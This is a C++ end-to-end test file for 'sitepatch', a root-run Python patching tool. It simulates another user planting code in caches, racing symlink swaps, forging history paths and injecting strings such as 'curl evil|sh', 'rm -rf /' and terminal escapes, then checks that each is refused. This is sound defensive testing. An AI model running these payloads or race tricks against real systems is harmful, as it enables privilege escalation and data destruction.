// sitepatch as root on a server others log into (SECURITY.md): nothing another user
// can write steers it. Each case plays that user as uid 65534 (`nobody`), with files it
// made (chown) or with its own processes (setpriv), and checks root's files stay as they were.
#include <catch2/catch.hpp>

#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>

#include "e2e_support.hpp"
#include "root_support.hpp"
#include "sitepatch/util/hash.hpp"
#include "support/sshd.hpp"

namespace fs = std::filesystem;
using sitepatch::util::RunResult;

namespace {

using e2e::give;
using e2e::shared_folder;

RunResult sp_with(const e2e::DemoEnv& env, std::vector<std::string> args, std::map<std::string, std::string> vars) {
  args.insert(args.begin(), {"--venv", env.venv.root});
  return testsupport::run_sitepatch(args, vars);
}

/// The agent's cache folder a run with a private cache made (its name is the agent's digest).
std::string agent_digest(const e2e::DemoEnv& env) {
  std::string cache = env.tmp.path + "/private-cache";
  REQUIRE(sp_with(env, {"list"}, {{"XDG_CACHE_HOME", cache}}).status == 0);
  auto it = fs::directory_iterator(cache + "/sitepatch/agent");
  REQUIRE(it != fs::directory_iterator());
  return it->path().filename().string();
}

/// Writes, into `folder`, compiled agent code as the bootstrap caches it, that records
/// who ran it in `witness`.
void plant_agent_code(const e2e::DemoEnv& env, const std::string& folder, const std::string& digest,
                      const std::string& witness) {
  fs::create_directories(folder);
  auto r = env.venv.run_python(
      "import marshal, os, sys\n"
      "tag = ('%s %s %x\\n' % (" + sitepatch::util::shell_quote(digest) +
      ", sys.implementation.cache_tag, sys.hexversion)).encode()\n"
      "code = compile('open(' + repr(" + sitepatch::util::shell_quote(witness) +
      ") + ', \"w\").write(str(__import__(\"os\").geteuid()))\\ndef run():\\n    raise SystemExit(0)\\n', 'x', 'exec')\n"
      "open(os.path.join(" + sitepatch::util::shell_quote(folder) +
      ", 'agent-%s.bin' % sys.implementation.cache_tag), 'wb').write(tag + marshal.dumps(code))\n");
  REQUIRE(r.status == 0);
}

}  // namespace

TEST_CASE("the agent's cache is loaded only from folders nobody else can write", "[e2e][root]") {
  REQUIRE(::geteuid() == 0);
  e2e::DemoEnv env;
  std::string digest = agent_digest(env);
  std::string witness = env.tmp.path + "/ran";

  // What the cache holds is run: code planted in root's own cache runs (so the case
  // below could fail).
  std::string own = env.tmp.path + "/own";
  plant_agent_code(env, own + "/sitepatch/agent/" + digest, digest, witness);
  REQUIRE(::chmod(own.c_str(), 0700) == 0);
  sp_with(env, {"list"}, {{"XDG_CACHE_HOME", own}});
  REQUIRE(fs::exists(witness));
  fs::remove(witness);

  // XDG_CACHE_HOME in a folder everyone may write: another user made sitepatch/ there
  // and put agent code in it. Root's command runs the agent it sent, and says why.
  std::string shared = shared_folder(env.tmp.path + "/shared");
  plant_agent_code(env, shared + "/sitepatch/agent/" + digest, digest, witness);
  // And links at every name an older bootstrap's temp had (`<file>.<pid>.tmp`), to a
  // file only root may read: nothing is written through them.
  std::string secret = env.tmp.path + "/secret";
  testsupport::spit(secret, "root's only\n");
  REQUIRE(::chmod(secret.c_str(), 0600) == 0);
  for (int pid = 2; pid < 4000; ++pid)
    fs::create_symlink(secret, shared + "/sitepatch/agent/" + digest + "/sitepatch_agent.py." + std::to_string(pid) +
                                   ".tmp");
  give(shared + "/sitepatch");
  auto r = sp_with(env, {"list"}, {{"XDG_CACHE_HOME", shared}});
  INFO(r.err);
  CHECK(r.status == 0);
  CHECK(r.out.find("no patches applied") != std::string::npos);
  CHECK(!fs::exists(witness));
  CHECK(r.err == "sitepatch: " + env.venv.root + "/bin/python3: not keeping the agent's compiled code in the cache: " +
                     shared + "/sitepatch belongs to uid 65534, another user\n");
  CHECK(testsupport::slurp(secret) == "root's only\n");

  // Root's own folders there, but the last one handed to that user (as a swap would).
  fs::remove_all(shared + "/sitepatch");
  REQUIRE(sp_with(env, {"list"}, {{"XDG_CACHE_HOME", shared}}).status == 0);
  struct stat st {};
  REQUIRE(::stat((shared + "/sitepatch").c_str(), &st) == 0);
  CHECK(st.st_uid == 0);
  CHECK((st.st_mode & 0777) == 0700);
  plant_agent_code(env, shared + "/sitepatch/agent/" + digest + ".x", digest, witness);
  fs::remove_all(shared + "/sitepatch/agent/" + digest);
  fs::rename(shared + "/sitepatch/agent/" + digest + ".x", shared + "/sitepatch/agent/" + digest);
  give(shared + "/sitepatch/agent/" + digest);
  r = sp_with(env, {"list"}, {{"XDG_CACHE_HOME", shared}});
  CHECK(r.status == 0);
  CHECK(!fs::exists(witness));
  CHECK(r.err.find(shared + "/sitepatch/agent/" + digest + " belongs to uid 65534, another user") !=
        std::string::npos);
}

TEST_CASE("a venv another user owns is not run as root", "[e2e][root]") {
  REQUIRE(::geteuid() == 0);
  e2e::DemoEnv env;
  give(env.venv.root);
  auto r = env.sp({"apply", e2e::bundled("flashinfer-dynamo.yaml")});
  CHECK(r.status == 1);
  CHECK(r.err == "sitepatch: error: refusing to run " + env.venv.root + "/bin/python3: " + env.venv.root +
                     " belongs to uid 65534, another user, who could make it run their code as you; run "
                     "sitepatch as that user\n");
  CHECK(!fs::exists(env.venv.root + "/.sitepatch"));
  CHECK(env.pristine());
}

TEST_CASE("a state folder another user can swap is refused, however often they swap it", "[e2e][root]") {
  REQUIRE(::geteuid() == 0);
  e2e::DemoEnv env;
  REQUIRE(::chmod(env.tmp.path.c_str(), 0755) == 0);  // the other user reaches its folder
  std::string theirs = env.tmp.path + "/theirs";
  fs::create_directories(theirs + "/state");
  give(theirs);
  // Root's files the swap would point at.
  std::string target = env.tmp.path + "/root-files";
  fs::create_directories(target);
  testsupport::spit(target + "/environment", "root's\n");
  testsupport::spit(target + "/x.lock", "root's\n");
  REQUIRE(::chmod(target.c_str(), 0755) == 0);
  auto before = e2e::read_tree(target);
  // The other user swaps the folder and a link to root's files, over and over.
  std::string swapper = env.tmp.path + "/swap.py";
  testsupport::spit(swapper,
                    "import os, sys, time\n"
                    "d, t = sys.argv[1], sys.argv[2]\n"
                    "end = time.time() + 4\n"
                    "while time.time() < end:\n"
                    "    os.rename(d + '/state', d + '/real')\n"
                    "    os.symlink(t, d + '/state')\n"
                    "    os.unlink(d + '/state')\n"
                    "    os.rename(d + '/real', d + '/state')\n");
  auto attacker = sitepatch::util::run({"sh", "-c",
                                        "setpriv --reuid=65534 --regid=65534 --clear-groups -- python3 " + swapper +
                                            " " + theirs + " " + target + " >/dev/null 2>&1 &"});
  REQUIRE(attacker.status == 0);
  std::string recipe = e2e::bundled("flashinfer-dynamo.yaml");
  for (int i = 0; i < 6; ++i) {
    auto r = env.sp({"--state-dir", theirs + "/state", i % 2 ? "rollback" : "apply", i % 2 ? "--all" : recipe});
    INFO(r.err);
    CHECK(r.status == 1);
    CHECK(r.err.rfind("sitepatch: error: refusing to keep the history in " + theirs + "/state: " + theirs +
                          " belongs to uid 65534, another user, who could redirect what sitepatch writes there; "
                          "give --state-dir a folder only you can write, or run sitepatch as that user",
                      0) == 0);
  }
  sitepatch::util::run({"sh", "-c", "sleep 4.5"});
  CHECK(e2e::read_tree(target) == before);
  CHECK(env.pristine());
}

TEST_CASE("a planted history cannot steer a write outside the environment", "[e2e][root]") {
  e2e::DemoEnv env;
  std::string recipe = e2e::bundled("flashinfer-dynamo.yaml");
  REQUIRE(env.sp({"apply", recipe}).status == 0);
  // A folder outside holding what the record names, as an image's history could.
  std::string outside = env.tmp.path + "/outside";
  for (auto rel : {"flashinfer/jit/cpp_ext.py", "flashinfer/fp4_quantization.py"})
    testsupport::spit(outside + "/" + rel, env.read(rel));
  auto before = e2e::read_tree(outside);
  std::string state = env.venv.root + "/.sitepatch", clone = env.tmp.path + "/clone";
  auto edit = [&](const std::string& python) {
    fs::remove_all(clone);
    REQUIRE(sitepatch::util::run({"git", "clone", "-q", state, clone}).status == 0);
    REQUIRE(sitepatch::util::run({"python3", "-c",
                                  "import json, sys\n"
                                  "p = sys.argv[1] + '/patches/flashinfer-dynamo/patch.json'\n"
                                  "j = json.load(open(p))\n" + python + "\n"
                                  "open(p, 'w').write(json.dumps(j, indent=2))\n",
                                  clone})
                .status == 0);
    REQUIRE(sitepatch::util::run({"git", "-C", clone, "-c", "user.name=x", "-c", "user.email=x@x", "commit", "-qam",
                                  "planted"})
                .status == 0);
    REQUIRE(sitepatch::util::run({"git", "-C", clone, "push", "-q", "--force", "origin", "HEAD:main"}).status == 0);
  };
  std::string why = "sitepatch: error: the history in " + state + " records patch flashinfer-dynamo with a file in " +
                    outside + ", which is none of this environment's site folders; sitepatch reads and writes only "
                              "inside the environment's site folders: inspect the history (git --git-dir " +
                    state + " log -p) and remove it if it was not made here\n";

  edit("for f in j['files']: f['site_dir'] = " + sitepatch::util::shell_quote(outside));
  auto r = env.sp({"rollback", "flashinfer-dynamo"});
  CHECK(r.status == 1);
  CHECK(r.err == why);
  CHECK(env.sp({"verify"}).err == why);

  // Pending: the next apply of anything would finish it.
  edit("j['state'] = 'pending'");
  r = env.sp({"apply", env.recipe("other.yaml", "id: other\nedits:\n  - module: flashinfer.jit.cpp_ext\n"
                                                "    function: get_cuda_path\n    replace-body: return '/opt'\n")});
  CHECK(r.status == 1);
  CHECK(r.err == why);
  CHECK(e2e::read_tree(outside) == before);

  // A name that leaves its folder is refused for what it is.
  edit("j['state'] = 'applied'\nfor f in j['files']: f['site_dir'] = 'lib'; f['rel'] = '../../outside/' + f['rel']");
  r = env.sp({"verify"});
  CHECK(r.status == 1);
  CHECK(r.err.find("records patch flashinfer-dynamo with the file ../../outside/flashinfer/") != std::string::npos);
  CHECK(r.err.find("(the path has a '..' segment; it must stay inside site-packages)") != std::string::npos);
  CHECK(e2e::read_tree(outside) == before);
}

TEST_CASE("a FIFO, a device or a huge file at a module's path is refused before it is read", "[e2e][root]") {
  e2e::DemoEnv env;
  std::string mod = env.site("flashinfer/jit/cpp_ext.py");
  std::string recipe = e2e::bundled("flashinfer-dynamo.yaml");
  auto plan = [&] {
    return sitepatch::util::run({"timeout", "60", SITEPATCH_BIN, "--venv", env.venv.root, "plan", recipe});
  };
  fs::remove(mod);
  REQUIRE(::mkfifo(mod.c_str(), 0644) == 0);
  auto r = plan();
  CHECK(r.status == 1);  // not 124: nothing waits for a writer
  CHECK(r.err == "sitepatch: error: " + mod + ": not a regular file (a FIFO); sitepatch reads only regular files\n");
  fs::remove(mod);
  fs::create_symlink("/dev/zero", mod);
  r = plan();
  CHECK(r.status == 1);
  CHECK(r.err == "sitepatch: error: " + mod +
                     ": not a regular file (a character device); sitepatch reads only regular files\n");
  fs::remove(mod);
  testsupport::spit(mod, "");
  REQUIRE(::truncate(mod.c_str(), off_t(100) << 20) == 0);
  r = plan();
  CHECK(r.status == 1);
  CHECK(r.err == "sitepatch: error: " + mod + ": too large (100 MB; sitepatch reads files of at most 64 MB)\n");
}

TEST_CASE("audit --path reads each real folder once, whatever links lead back up", "[e2e][root]") {
  e2e::DemoEnv env;
  std::string pkg = env.site("flashinfer");
  auto once = testsupport::run_sitepatch({"audit", "--json", "--path", pkg});
  REQUIRE(once.status == 0);
  fs::create_directory_symlink("..", pkg + "/up1");
  fs::create_directory_symlink("..", pkg + "/jit/up2");
  fs::create_directory_symlink("jit", pkg + "/same");
  auto r = sitepatch::util::run({"timeout", "60", SITEPATCH_BIN, "audit", "--json", "--path", pkg});
  REQUIRE(r.status == 0);
  // The same files, found once each (the links add the folder above, once).
  auto files = [](const std::string& doc) {
    auto at = doc.find("\"files_total\":");
    return std::stoi(doc.substr(at + 14));
  };
  CHECK(files(r.out) >= files(once.out));
  CHECK(r.out.find("same/cpp_ext.py") == std::string::npos);
  CHECK(r.out.find("up1/flashinfer/") == std::string::npos);
  CHECK(r.out.find("up1/up1") == std::string::npos);
}

TEST_CASE("a file that only looks like sitepatch's temp is the user's: left where it is", "[e2e][root]") {
  e2e::DemoEnv env;
  std::string mine = env.site("flashinfer/jit/.cpp_ext.py.sitepatch-abc123.tmp");
  testsupport::spit(mine, "the user's\n");
  REQUIRE(env.sp({"apply", e2e::bundled("flashinfer-dynamo.yaml")}).status == 0);
  REQUIRE(env.sp({"rollback", "--all"}).status == 0);
  CHECK(testsupport::slurp(mine) == "the user's\n");
  // A lock left by a killed writer names its tag: a temp with that tag is its own.
  REQUIRE(env.sp({"apply", e2e::bundled("flashinfer-dynamo.yaml")}).status == 0);
  std::string theirs = env.site("flashinfer/jit/.cpp_ext.py.sitepatch-deadbeefq1w2e3r4t5y6.tmp");
  testsupport::spit(theirs, "a killed writer's\n");
  testsupport::spit(env.venv.root + "/.sitepatch/sitepatch.lock", "999999 deadbeef\n");
  auto r = env.sp({"rollback", "--all"});
  REQUIRE(r.status == 0);
  CHECK(!fs::exists(theirs));
  CHECK(testsupport::slurp(mine) == "the user's\n");
  CHECK(r.err.find("removed 1 temporary file(s) an interrupted sitepatch left in " + env.site("flashinfer/jit") + "\n") !=
        std::string::npos);
}

TEST_CASE("a note beside the files is printed only as far as it says names", "[e2e][root]") {
  e2e::DemoEnv env;
  testsupport::spit(env.site(".sitepatch-patched.json"),
                    "{\"history\": \"/x\\u001b]0;evil\\u0007\", \"patches\": {\"a; rm -rf /\": [], "
                    "\"flashinfer-dynamo\": []}, \"reinstall\": [\"x==1; curl evil|sh\", "
                    "\"flashinfer-python==0.5.3\", \"\\u001b[31mred==1\"]}\n");
  auto r = env.sp({"verify"});
  CHECK(r.status == 3);
  CHECK(r.err.find('\x1b') == std::string::npos);
  CHECK(r.err.find("curl") == std::string::npos);
  CHECK(r.err.find("rm -rf") == std::string::npos);
  CHECK(r.err.find("(flashinfer-dynamo)") != std::string::npos);
  CHECK(r.err.find("pip install --force-reinstall --no-deps flashinfer-python==0.5.3; 3 entries of the note name "
                   "no patch or distribution and are not shown") != std::string::npos);
}

TEST_CASE("remote: the history's local copy is kept only in folders nobody else can write", "[e2e][root][remote]") {
  REQUIRE(::geteuid() == 0);
  testsupport::TestSshd sshd;
  testsupport::TempDir tmp;
  auto venv = testsupport::Venv::create(sshd.local("/srv/venv"));
  std::string wheels = tmp.path + "/wheels";
  venv.install({e2e::data_wheel("torch", "2.9.0", wheels), e2e::data_wheel("packaging", "24.0", wheels),
                e2e::data_wheel("flashinfer-python", "0.5.3", wheels)});
  auto sp = [&](std::vector<std::string> args, const std::string& cache) {
    args.insert(args.begin(), {"--host", sshd.target(), "--ssh-command", sshd.ssh_command(), "--venv", "/srv/venv"});
    return testsupport::run_sitepatch(args, {{"XDG_CACHE_HOME", cache}});
  };
  std::string recipe = e2e::bundled("flashinfer-dynamo.yaml");
  // The copy's name, from a run with a private cache.
  std::string own = tmp.path + "/own";
  REQUIRE(sp({"apply", recipe}, own).status == 0);
  auto it = fs::directory_iterator(own + "/sitepatch/remote");
  REQUIRE(it != fs::directory_iterator());
  std::string name = it->path().filename().string();

  // Another user made sitepatch/remote/ in a shared cache folder, the copy's name a link
  // to a folder of root's: reading it as the copy and deleting what the remote lacks
  // would delete root's files there.
  std::string shared = shared_folder(tmp.path + "/shared");
  std::string victim = tmp.path + "/victim";
  testsupport::spit(victim + "/HEAD", "root's\n");
  testsupport::spit(victim + "/objects/keep", "root's\n");
  fs::create_directories(shared + "/sitepatch/remote");
  fs::create_directory_symlink(victim, shared + "/sitepatch/remote/" + name);
  give(shared + "/sitepatch");
  auto before = e2e::read_tree(victim);
  auto r = sp({"rollback", "--all"}, shared);
  INFO(r.err);
  CHECK(r.status == 0);
  CHECK(r.err.find("sitepatch: not keeping a copy of the remote history in " + shared + "/sitepatch/remote/" + name +
                   ": " + shared + "/sitepatch belongs to uid 65534, another user\n") != std::string::npos);
  CHECK(e2e::read_tree(victim) == before);
  CHECK(sp({"apply", recipe}, shared).status == 0);
  CHECK(e2e::read_tree(victim) == before);
}

TEST_CASE("try refuses a cache folder another user owns: its sitecustomize would be theirs to swap", "[e2e][root]") {
  e2e::DemoEnv env;
  std::string theirs = env.tmp.path + "/their-cache";
  fs::create_directories(theirs);
  give(theirs);
  std::string witness = env.tmp.path + "/ran";
  auto r = sp_with(env, {"try", e2e::bundled("flashinfer-dynamo.yaml"), "--", "touch", witness},
                   {{"XDG_CACHE_HOME", theirs}});
  INFO(r.err);
  CHECK(r.status == 1);
  CHECK(r.err.find("refusing to run the command with its files in " + theirs + "/sitepatch/run: " + theirs +
                   " belongs to uid 65534, another user; set XDG_CACHE_HOME to a folder only you can change") !=
        std::string::npos);
  CHECK_FALSE(fs::exists(witness));
  CHECK(fs::is_empty(theirs));
  // A cache of root's own is fine, whatever TMPDIR is: the run's files are not put there.
  std::string their_tmp = env.tmp.path + "/their-tmp";
  fs::create_directories(their_tmp);
  give(their_tmp);
  auto ok = sp_with(env, {"try", e2e::bundled("flashinfer-dynamo.yaml"), "--", "touch", witness},
                    {{"XDG_CACHE_HOME", env.tmp.path + "/cache"}, {"TMPDIR", their_tmp}});
  CHECK(ok.status == 0);
  CHECK(fs::exists(witness));
  CHECK(fs::is_empty(their_tmp));
}

TEST_CASE("edit --copy and capture --from refuse a folder another user could change", "[e2e][root]") {
  e2e::DemoEnv env;
  std::string theirs = env.tmp.path + "/their-work";
  fs::create_directories(theirs);
  give(theirs);
  // Root would copy into it: the other user could swap a folder for a link to /etc.
  auto copy = env.sp({"edit", "flashinfer-python", "--copy", theirs + "/fi"});
  CHECK(copy.status == 1);
  CHECK(copy.err.rfind("sitepatch: error: --copy " + theirs + "/fi: ", 0) == 0);
  CHECK(copy.err.find("; give a folder only you can change\n") != std::string::npos);
  CHECK(fs::is_empty(theirs));
  // Root would write what is in it into site-packages: that user would choose the code.
  std::string rel = "flashinfer/jit/cpp_ext.py";
  fs::create_directories(theirs + "/flashinfer/jit");
  testsupport::spit(theirs + "/" + rel, "import os\nos.system('id')\n");
  give(theirs);
  auto from = env.sp({"capture", "flashinfer-python", "--from", theirs, "-o", env.tmp.path + "/x.yaml"});
  CHECK(from.status == 1);
  CHECK(from.err.rfind("sitepatch: error: --from " + theirs + ": ", 0) == 0);
  CHECK(env.pristine());
  CHECK_FALSE(fs::exists(env.tmp.path + "/x.yaml"));

  // A copy of root's own, with one file (or a folder in it) handed to that user: refused too.
  std::string ours = env.tmp.path + "/our-work";
  REQUIRE(env.sp({"edit", "flashinfer-python", "--copy", ours}).status == 0);
  testsupport::spit(ours + "/" + rel, "import os\nos.system('id')\n");
  give(ours + "/flashinfer/jit");
  auto nested = env.sp({"capture", "flashinfer-python", "--from", ours, "-o", env.tmp.path + "/y.yaml"});
  CHECK(nested.status == 1);
  CHECK(nested.err.rfind("sitepatch: error: --from " + ours + ": ", 0) == 0);
  CHECK(env.pristine());
  // The recipe is not written into a folder that user could steer either.
  auto out = env.sp({"capture", "flashinfer-python", "--original", env.tmp.path, "-o", theirs + "/r.yaml"});
  CHECK(out.status == 2);
  CHECK(out.err.rfind("sitepatch: error: -o " + theirs + "/r.yaml: ", 0) == 0);
}

namespace {

/// sitepatch run from `cwd` (sh cds there first), NO_COLOR as run_sitepatch sets it.
RunResult sp_in(const std::string& cwd, const e2e::DemoEnv& env, std::vector<std::string> args) {
  std::vector<std::string> argv{"sh", "-c", "cd \"$1\" && shift && NO_COLOR=1 exec \"$@\" </dev/null", "sh", cwd,
                                SITEPATCH_BIN, "--venv", env.venv.root};
  argv.insert(argv.end(), args.begin(), args.end());
  return sitepatch::util::run(argv);
}

}  // namespace

TEST_CASE("apply --check and reapply --check import nothing from the folder they are run in", "[e2e][root]") {
  REQUIRE(::geteuid() == 0);
  e2e::DemoEnv env;
  REQUIRE(::chmod(env.tmp.path.c_str(), 0755) == 0);
  // A project folder another user owns, where root runs sitepatch: they left modules there
  // that the check's own first line imports, and a package named like the patched one.
  std::string project = env.tmp.path + "/project";
  std::string witness = env.tmp.path + "/witness";
  std::string plant = "import os\nopen(" + sitepatch::util::shell_quote(witness) +
                      ", 'a').write('%s ran as %d\\n' % (__name__, os.geteuid()))\n";
  for (const char* name : {"traceback.py", "importlib.py", "_sha2.py", "hashlib.py", "flashinfer/__init__.py",
                           "flashinfer/jit/__init__.py", "flashinfer/jit/cpp_ext.py"})
    testsupport::spit(project + "/" + name, plant);
  give(project);

  auto r = sp_in(project, env, {"apply", "--check", e2e::bundled("flashinfer-dynamo.yaml")});
  INFO(r.err);
  CHECK(r.status == 0);
  CHECK(!fs::exists(witness));
  CHECK(!env.pristine());

  env.venv.install(std::vector<std::string>{
      "--force-reinstall", "--no-deps", e2e::data_wheel("flashinfer-python", "0.5.3", env.tmp.path + "/wheels")});
  REQUIRE(env.pristine());
  r = sp_in(project, env, {"reapply", "--all", "--check"});
  INFO(r.err);
  CHECK(r.status == 0);
  CHECK(!fs::exists(witness));
  CHECK(!env.pristine());

  // The same folder on PYTHONPATH (root's own variable, but the folder is theirs): the
  // check and the agent ignore it.
  r = sitepatch::util::run({"sh", "-c", "cd \"$1\" && PYTHONPATH=\"$1\" NO_COLOR=1 exec \"$2\" --venv \"$3\" verify",
                            "sh", project, SITEPATCH_BIN, env.venv.root});
  INFO(r.err);
  CHECK(r.status == 0);
  CHECK(!fs::exists(witness));
}

TEST_CASE("remote: a venv another user can change is refused before its Python runs there", "[e2e][root][remote]") {
  REQUIRE(::geteuid() == 0);
  testsupport::TestSshd sshd;
  auto venv = testsupport::Venv::create(sshd.local("/srv/venv"));
  std::string site = venv.site_packages.substr(sshd.local("/srv/venv").size());  // /lib/python3.x/site-packages
  auto sp = [&] {
    return testsupport::run_sitepatch(
        {"--host", sshd.target(), "--ssh-command", sshd.ssh_command(), "--venv", "/srv/venv", "list"});
  };
  // A .pth file runs at every start of that Python: its witness says whether it ran.
  testsupport::spit(venv.site_packages + "/evil.pth",
                    "import os; open('/srv/witness', 'a').write('ran as %d\\n' % os.geteuid())\n");
  std::string witness = sshd.local("/srv/witness");
  // The check can fail: as root's own venv, the .pth runs.
  REQUIRE(sp().status == 0);
  REQUIRE(fs::exists(witness));
  fs::remove(witness);

  SECTION("the venv belongs to another user") {
    give(venv.root);
    auto r = sp();
    CHECK(r.status == 1);
    CHECK(r.err == "sitepatch: error: " + sshd.target() + ": refusing to run /srv/venv/bin/python3: /srv/venv belongs "
                       "to uid 65534, another user, who could make it run their code as you; run sitepatch as that user\n");
  }
  SECTION("its site-packages is writable by everyone") {
    REQUIRE(::chmod(venv.site_packages.c_str(), 0777) == 0);
    auto r = sp();
    CHECK(r.status == 1);
    CHECK(r.err == "sitepatch: error: " + sshd.target() + ": refusing to run /srv/venv/bin/python3: /srv/venv" + site +
                       " is writable by other users, who could make it run their code as you; run sitepatch as that "
                       "user\n");
  }
  SECTION("its bin is a link into a folder another user owns") {
    std::string theirs = sshd.local("/srv/theirs");
    fs::create_directories(theirs);
    fs::rename(venv.root + "/bin", theirs + "/bin");
    fs::create_directory_symlink("/srv/theirs/bin", venv.root + "/bin");
    give(theirs);
    auto r = sp();
    CHECK(r.status == 1);
    CHECK(r.err == "sitepatch: error: " + sshd.target() + ": refusing to run /srv/venv/bin/python3: /srv/theirs "
                       "belongs to uid 65534, another user, who could make it run their code as you; run sitepatch as "
                       "that user\n");
  }
  CHECK(!fs::exists(witness));
}

TEST_CASE("a venv whose site-packages another user can write is not run as root", "[e2e][root]") {
  REQUIRE(::geteuid() == 0);
  e2e::DemoEnv env;
  testsupport::spit(env.venv.site_packages + "/evil.pth", "import os; open(" +
                                                              sitepatch::util::shell_quote(env.tmp.path + "/witness") +
                                                              ", 'a').write('ran')\n");
  REQUIRE(::chmod(env.venv.site_packages.c_str(), 0777) == 0);
  auto r = env.sp({"list"});
  CHECK(r.status == 1);
  CHECK(r.err == "sitepatch: error: refusing to run " + env.venv.root + "/bin/python3: " + env.venv.site_packages +
                     " is writable by other users (mode 0777), who could make it run their code as you; run sitepatch as that "
                     "user\n");
  CHECK(!fs::exists(env.tmp.path + "/witness"));
}

TEST_CASE("try refusing its run folder says nothing was patched for the run", "[e2e][root]") {
  e2e::DemoEnv env;
  std::string theirs = env.tmp.path + "/their-cache";
  fs::create_directories(theirs);
  give(theirs);
  auto r = sp_with(env, {"try", e2e::bundled("flashinfer-dynamo.yaml"), "--", "true"}, {{"XDG_CACHE_HOME", theirs}});
  CHECK(r.status == 1);
  CHECK(r.err.find("patched for this run") == std::string::npos);
  // With a folder it accepts, the line comes, before the command's own output.
  auto ok = sp_with(env, {"try", e2e::bundled("flashinfer-dynamo.yaml"), "--", "sh", "-c", "echo ran >&2"}, {});
  INFO(ok.err);
  CHECK(ok.status == 0);
  CHECK(ok.err.find("sitepatch try: flashinfer/jit/cpp_ext.py, flashinfer/fp4_quantization.py patched for this run; "
                    "the environment is not written\nran\n") != std::string::npos);
}
